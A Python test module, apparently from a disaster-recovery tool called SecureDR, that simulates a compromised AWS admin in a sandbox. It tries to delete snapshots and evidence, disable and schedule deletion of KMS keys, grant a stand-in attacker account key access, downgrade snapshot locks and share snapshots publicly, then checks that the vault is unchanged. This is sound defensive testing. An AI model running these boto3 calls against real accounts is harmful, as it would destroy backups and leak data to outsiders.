"""The attacker of ``make compromise``: everything the workload side's credentials can try.

After a nightly run, the attacker holds every credential the workload side holds: the workload
account's administrator (which includes SecureDR's connection, its roles and the Airflow
Variables, among them the vault's external id), and through it the right to assume the vault
intake role. :func:`run_attacks` then tries, in order:

1. to delete every snapshot, DB snapshot and manifest it can, in the workload and in the vault;
2. to disable the workload keys and schedule their deletion, and the vault's key too;
3. to unlock, delete and re-share the vault copies;
4. to empty the workload evidence bucket.

Who decides each call (as AWS would):

- calls of the workload administrator on the workload's own resources: AWS itself (here, the
  sandbox: snapshot locks, S3 Object Lock, KMS's rules). An administrator's identity policy
  allows everything, so IAM never stops these;
- calls on the vault's resources, whether as the intake role or across accounts: IAM first, from
  the policies SecureDR ships (:mod:`sandbox.iam_judge`: the role's identity policy, the vault
  key's and bucket's resource policies, the vault's SCP). A call IAM denies is not sent: AWS
  would answer ``AccessDenied`` and change nothing. A call IAM allows is sent, and the sandbox
  answers as AWS does.

:func:`vault_inventory` reads the vault as its own auditor sees it (snapshots, their locks and
sharing, DB snapshots, the key's state and policy, every evidence object version), before and
after; :func:`inventory_changes` lists the differences, which must be none. Measuring only;
:mod:`sandbox.compromise_report` renders.
"""

from __future__ import annotations

import hashlib
import json
from collections.abc import Callable, Iterator, Mapping
from dataclasses import asdict, dataclass, field
from typing import Any

import boto3
from botocore.config import Config
from botocore.exceptions import ClientError

from securedr.core.plan import Plan

#: An account the attacker controls, outside the plan (the target of re-sharing).
ATTACKER_ACCOUNT = "999999999999"
ATTACKER_SESSION = "attacker"
#: The shortest deletion window KMS accepts (7-30 days):
#: https://docs.aws.amazon.com/kms/latest/APIReference/API_ScheduleKeyDeletion.html
KEY_DELETION_DAYS = 7

WORKLOAD_ADMIN = "workload administrator"
VAULT_INTAKE = "vault intake role"

GOALS = {
    "delete": "delete every snapshot and manifest it can",
    "keys": "disable the keys and schedule their deletion",
    "vault": "unlock, delete and re-share the vault copies",
    "evidence": "empty the workload evidence bucket",
}


@dataclass
class Outcome:
    """One call the attacker made (or IAM stopped before AWS saw it)."""

    goal: str
    principal: str
    action: str
    target: str
    account: str
    result: str  # "worked" | "denied" (by IAM, not sent) | "refused" (by AWS)
    detail: str = ""


@dataclass
class Session:
    """boto3 clients of one principal against the sandbox endpoint."""

    name: str
    account: str
    principal_arn: str
    credentials: Mapping[str, str]
    endpoint_url: str
    _clients: dict[tuple[str, str], Any] = field(default_factory=dict, repr=False)

    def client(self, service: str, region: str) -> Any:
        key = (service, region)
        if key not in self._clients:
            self._clients[key] = boto3.client(
                service,
                region_name=region,
                endpoint_url=self.endpoint_url,
                config=Config(retries={"mode": "standard", "max_attempts": 5}),
                **self.credentials,
            )
        return self._clients[key]


#: Judges one call on the vault's side: (principal ARN, IAM action, resource ARN, condition
#: context) -> (allowed, reason).
Judge = Callable[[str, str, str, Mapping[str, str]], tuple[bool, str]]


class Attacker:
    """Makes the calls, records each :class:`Outcome`."""

    def __init__(
        self, plan: Plan, workload: Session, intake: Session, judge: Judge, vault_account: str
    ) -> None:
        self.plan = plan
        self.workload = workload
        self.intake = intake
        self.judge = judge
        self.vault_account = vault_account
        self.outcomes: list[Outcome] = []

    # ------------------------------------------------------------------ one call
    def call(
        self,
        goal: str,
        session: Session,
        service: str,
        region: str,
        operation: str,
        action: str,
        resource_arn: str,
        params: Mapping[str, Any],
        *,
        target: str,
        vault: bool = False,
        context: Mapping[str, str] | None = None,
    ) -> Any:
        """Judge (on the vault's side), then send; record what happened. Returns the answer.

        ``vault``: the resource belongs to the vault account (EC2 snapshot and S3 ARNs do not
        say which account owns them).
        """
        account = self.vault_account if vault else self.workload.account
        if vault or session is self.intake:
            allowed, reason = self.judge(session.principal_arn, action, resource_arn, context or {})
            if not allowed:
                self._record(goal, session, action, target, account, "denied", reason)
                return None
        try:
            answer = getattr(session.client(service, region), operation)(**params)
        except ClientError as exc:
            error = exc.response.get("Error", {})
            detail = f"{error.get('Code', '?')}: {error.get('Message', '')}".strip()
            self._record(goal, session, action, target, account, "refused", detail)
            return None
        self._record(goal, session, action, target, account, "worked")
        return answer

    def _record(
        self,
        goal: str,
        session: Session,
        action: str,
        target: str,
        account: str,
        result: str,
        detail: str = "",
    ) -> None:
        self.outcomes.append(
            Outcome(GOALS[goal], session.name, action, target, account, result, detail)
        )

    # ------------------------------------------------------------------ the attacks
    def delete_everything(self, vault_copies: Mapping[str, Any]) -> None:
        """Goal 1: every snapshot, DB snapshot and manifest, workload then vault."""
        for region in self.plan.all_regions:
            for snapshot_id in _own_snapshots(self.workload, region):
                self.call(
                    "delete",
                    self.workload,
                    "ec2",
                    region,
                    "delete_snapshot",
                    "ec2:DeleteSnapshot",
                    ec2_snapshot_arn(region, snapshot_id),
                    {"SnapshotId": snapshot_id},
                    target=snapshot_id,
                )
            for name in _own_db_snapshots(self.workload, region):
                self.call(
                    "delete",
                    self.workload,
                    "rds",
                    region,
                    "delete_db_snapshot",
                    "rds:DeleteDBSnapshot",
                    rds_snapshot_arn(region, self.workload.account, name),
                    {"DBSnapshotIdentifier": name},
                    target=name,
                )
        evidence = self.plan.evidence_bucket
        self._delete_objects(
            "delete", self.workload, evidence.name, f"{evidence.prefix}/manifests/"
        )
        dr = self.plan.regions.dr
        for snapshot_id in vault_copies.get("snapshots", {}):
            for session in (self.intake, self.workload):
                self.call(
                    "delete",
                    session,
                    "ec2",
                    dr,
                    "delete_snapshot",
                    "ec2:DeleteSnapshot",
                    ec2_snapshot_arn(dr, snapshot_id),
                    {"SnapshotId": snapshot_id},
                    target=snapshot_id,
                    vault=True,
                )
        for name in vault_copies.get("db_snapshots", {}):
            for session in (self.intake, self.workload):
                self.call(
                    "delete",
                    session,
                    "rds",
                    dr,
                    "delete_db_snapshot",
                    "rds:DeleteDBSnapshot",
                    rds_snapshot_arn(dr, self.vault_account, name),
                    {"DBSnapshotIdentifier": name},
                    target=name,
                    vault=True,
                )
        vault = self.plan.vault
        assert vault is not None
        for session in (self.intake, self.workload):
            self._delete_objects(
                "delete",
                session,
                vault.evidence_bucket,
                f"{vault.evidence_prefix}/manifests/",
                lister=self.intake,
                vault=True,
            )

    def disable_keys(self) -> None:
        """Goal 2: every workload key disabled and scheduled for deletion; then the vault's."""
        for region in self.plan.all_regions:
            kms = self.workload.client("kms", region)
            key_arn = kms.describe_key(KeyId=self.plan.kms_key(region))["KeyMetadata"]["Arn"]
            self._attack_key(self.workload, region, key_arn)
        vault = self.plan.vault
        assert vault is not None
        for region, key_arn in vault.kms_keys.items():
            for session in (self.intake, self.workload):
                self._attack_key(session, region, key_arn)

    def _attack_key(self, session: Session, region: str, key_arn: str) -> None:
        vault = _in_account(key_arn, self.vault_account)
        self.call(
            "keys",
            session,
            "kms",
            region,
            "disable_key",
            "kms:DisableKey",
            key_arn,
            {"KeyId": key_arn},
            target=key_arn,
            vault=vault,
        )
        self.call(
            "keys",
            session,
            "kms",
            region,
            "schedule_key_deletion",
            "kms:ScheduleKeyDeletion",
            key_arn,
            {"KeyId": key_arn, "PendingWindowInDays": KEY_DELETION_DAYS},
            target=key_arn,
            vault=vault,
        )
        if vault:
            # A key policy that lets the attacker in would undo every other protection.
            policy = {
                "Version": "2012-10-17",
                "Statement": [
                    {
                        "Sid": "Attacker",
                        "Effect": "Allow",
                        "Principal": {"AWS": f"arn:aws:iam::{ATTACKER_ACCOUNT}:root"},
                        "Action": "kms:*",
                        "Resource": "*",
                    }
                ],
            }
            self.call(
                "keys",
                session,
                "kms",
                region,
                "put_key_policy",
                "kms:PutKeyPolicy",
                key_arn,
                {"KeyId": key_arn, "PolicyName": "default", "Policy": json.dumps(policy)},
                target=key_arn,
                vault=True,
            )

    def attack_vault_copies(self, vault_copies: Mapping[str, Any]) -> None:
        """Goal 3: unlock, re-lock in governance mode, share publicly or with the attacker."""
        dr = self.plan.regions.dr
        for snapshot_id in vault_copies.get("snapshots", {}):
            arn = ec2_snapshot_arn(dr, snapshot_id)
            self.call(
                "vault",
                self.intake,
                "ec2",
                dr,
                "unlock_snapshot",
                "ec2:UnlockSnapshot",
                arn,
                {"SnapshotId": snapshot_id},
                target=snapshot_id,
                vault=True,
            )
            # A governance lock can be removed by anyone allowed to unlock; replacing the
            # compliance lock with one would open the way to a delete.
            self.call(
                "vault",
                self.intake,
                "ec2",
                dr,
                "lock_snapshot",
                "ec2:LockSnapshot",
                arn,
                {"SnapshotId": snapshot_id, "LockMode": "governance", "LockDuration": 1},
                target=snapshot_id,
                vault=True,
                context={"ec2:SnapshotLockDuration": "1"},  # no CoolOffPeriod: governance
            )
            for permission in ({"Group": "all"}, {"UserId": ATTACKER_ACCOUNT}):
                self.call(
                    "vault",
                    self.intake,
                    "ec2",
                    dr,
                    "modify_snapshot_attribute",
                    "ec2:ModifySnapshotAttribute",
                    arn,
                    {
                        "SnapshotId": snapshot_id,
                        "Attribute": "createVolumePermission",
                        "CreateVolumePermission": {"Add": [permission]},
                    },
                    target=f"{snapshot_id} -> {permission.get('UserId', 'public')}",
                    vault=True,
                )
        for name in vault_copies.get("db_snapshots", {}):
            for value in ("all", ATTACKER_ACCOUNT):
                self.call(
                    "vault",
                    self.intake,
                    "rds",
                    dr,
                    "modify_db_snapshot_attribute",
                    "rds:ModifyDBSnapshotAttribute",
                    rds_snapshot_arn(dr, self.vault_account, name),
                    {
                        "DBSnapshotIdentifier": name,
                        "AttributeName": "restore",
                        "ValuesToAdd": [value],
                    },
                    target=f"{name} -> {'public' if value == 'all' else value}",
                    vault=True,
                )

    def empty_workload_evidence(self) -> None:
        """Goal 4: every object version and delete marker of the workload evidence bucket."""
        self._delete_objects("evidence", self.workload, self.plan.evidence_bucket.name, "")

    def _delete_objects(
        self,
        goal: str,
        session: Session,
        bucket: str,
        prefix: str,
        *,
        lister: Session | None = None,
        vault: bool = False,
    ) -> None:
        """A delete marker over each key, then each version removed, oldest to newest."""
        reader = (lister or session).client("s3", self.plan.regions.dr)
        versions = list(_object_versions(reader, bucket, prefix))
        for key in sorted({v["Key"] for v in versions}):
            self.call(
                goal,
                session,
                "s3",
                self.plan.regions.dr,
                "delete_object",
                "s3:DeleteObject",
                f"arn:aws:s3:::{bucket}/{key}",
                {"Bucket": bucket, "Key": key},
                target=f"s3://{bucket}/{key}",
                vault=vault,
            )
        for version in versions:
            key = version["Key"]
            self.call(
                goal,
                session,
                "s3",
                self.plan.regions.dr,
                "delete_object",
                "s3:DeleteObjectVersion",
                f"arn:aws:s3:::{bucket}/{key}",
                {"Bucket": bucket, "Key": key, "VersionId": version["VersionId"]},
                target=f"s3://{bucket}/{key}?versionId={version['VersionId']}",
                vault=vault,
            )


def run_attacks(attacker: Attacker, vault_before: Mapping[str, Any]) -> list[Outcome]:
    """The four goals in order; returns every outcome."""
    attacker.delete_everything(vault_before)
    attacker.disable_keys()
    attacker.attack_vault_copies(vault_before)
    attacker.empty_workload_evidence()
    return attacker.outcomes


# ---------------------------------------------------------------------- the vault, as it is
def vault_inventory(plan: Plan, auditor: Session) -> dict[str, Any]:
    """Everything in the vault an attack could change, read by the vault's own auditor."""
    vault = plan.vault
    assert vault is not None
    dr = plan.regions.dr
    ec2 = auditor.client("ec2", dr)
    snapshots: dict[str, Any] = {}
    for page in ec2.get_paginator("describe_snapshots").paginate(OwnerIds=[auditor.account]):
        for snap in page["Snapshots"]:
            shared = ec2.describe_snapshot_attribute(
                SnapshotId=snap["SnapshotId"], Attribute="createVolumePermission"
            ).get("CreateVolumePermissions", [])
            snapshots[snap["SnapshotId"]] = {
                "state": snap["State"],
                "encrypted": snap.get("Encrypted", False),
                "kms_key": snap.get("KmsKeyId"),
                "shared_with": sorted(p.get("UserId") or p.get("Group", "?") for p in shared),
            }
    for lock in _locks(ec2):
        if lock["SnapshotId"] in snapshots:
            snapshots[lock["SnapshotId"]]["lock"] = {
                "mode": lock.get("LockState"),
                "expires": _iso(lock.get("LockExpiresOn")),
            }
    rds = auditor.client("rds", dr)
    db_snapshots: dict[str, Any] = {}
    for page in rds.get_paginator("describe_db_snapshots").paginate(SnapshotType="manual"):
        for snap in page["DBSnapshots"]:
            name = snap["DBSnapshotIdentifier"]
            attributes = rds.describe_db_snapshot_attributes(DBSnapshotIdentifier=name)
            restore = next(
                (
                    a.get("AttributeValues", [])
                    for a in attributes["DBSnapshotAttributesResult"]["DBSnapshotAttributes"]
                    if a["AttributeName"] == "restore"
                ),
                [],
            )
            db_snapshots[name] = {
                "status": snap["Status"],
                "kms_key": snap.get("KmsKeyId"),
                "shared_with": sorted(restore),
            }
    keys = {}
    for region, key_arn in vault.kms_keys.items():
        kms = auditor.client("kms", region)
        meta = kms.describe_key(KeyId=key_arn)["KeyMetadata"]
        policy = kms.get_key_policy(KeyId=key_arn, PolicyName="default")["Policy"]
        keys[key_arn] = {
            "state": meta["KeyState"],
            "policy_sha256": hashlib.sha256(policy.encode()).hexdigest(),
        }
    s3 = auditor.client("s3", dr)
    objects = {
        f"{v['Key']}?versionId={v['VersionId']}": "delete marker" if v["IsMarker"] else "version"
        for v in _object_versions(s3, vault.evidence_bucket, "")
    }
    return {
        "snapshots": snapshots,
        "db_snapshots": db_snapshots,
        "keys": keys,
        "evidence": objects,
    }


def inventory_changes(before: Mapping[str, Any], after: Mapping[str, Any]) -> list[str]:
    """Every difference between two inventories, one readable line each."""
    changes: list[str] = []
    for section in sorted(set(before) | set(after)):
        old, new = before.get(section, {}), after.get(section, {})
        for name in sorted(set(old) | set(new)):
            if name not in new:
                changes.append(f"{section}: {name} is gone")
            elif name not in old:
                changes.append(f"{section}: {name} appeared ({_short(new[name])})")
            elif old[name] != new[name]:
                changes.append(
                    f"{section}: {name} changed from {_short(old[name])} to {_short(new[name])}"
                )
    return changes


def outcomes_as_dicts(outcomes: list[Outcome]) -> list[dict[str, Any]]:
    return [asdict(o) for o in outcomes]


# ---------------------------------------------------------------------- helpers
def ec2_snapshot_arn(region: str, snapshot_id: str) -> str:
    """EC2 snapshot ARNs carry no account (Service Authorization Reference, Amazon EC2:
    https://docs.aws.amazon.com/service-authorization/latest/reference/list_amazonec2.html)."""
    return f"arn:aws:ec2:{region}::snapshot/{snapshot_id}"


def rds_snapshot_arn(region: str, account: str, name: str) -> str:
    return f"arn:aws:rds:{region}:{account}:snapshot:{name}"


def _in_account(arn: str, account: str) -> bool:
    """Whether an ARN that names its account (KMS, RDS) names ``account``."""
    parts = arn.split(":")
    return len(parts) > 4 and parts[4] == account


def _own_snapshots(session: Session, region: str) -> list[str]:
    ec2 = session.client("ec2", region)
    return [
        snap["SnapshotId"]
        for page in ec2.get_paginator("describe_snapshots").paginate(OwnerIds=["self"])
        for snap in page["Snapshots"]
    ]


def _own_db_snapshots(session: Session, region: str) -> list[str]:
    rds = session.client("rds", region)
    return [
        snap["DBSnapshotIdentifier"]
        for page in rds.get_paginator("describe_db_snapshots").paginate(SnapshotType="manual")
        for snap in page["DBSnapshots"]
    ]


def _object_versions(s3: Any, bucket: str, prefix: str) -> Iterator[dict[str, Any]]:
    for page in s3.get_paginator("list_object_versions").paginate(Bucket=bucket, Prefix=prefix):
        for version in page.get("Versions", []):
            yield {**version, "IsMarker": False}
        for marker in page.get("DeleteMarkers", []):
            yield {**marker, "IsMarker": True}


def _locks(ec2: Any) -> Iterator[dict[str, Any]]:
    token: str | None = None
    while True:
        page = ec2.describe_locked_snapshots(**({"NextToken": token} if token else {}))
        yield from page.get("Snapshots", [])
        token = page.get("NextToken")
        if not token:
            return


def _iso(value: Any) -> str | None:
    return value.isoformat() if hasattr(value, "isoformat") else value


def _short(value: Any) -> str:
    return json.dumps(value, sort_keys=True, default=str)[:200]
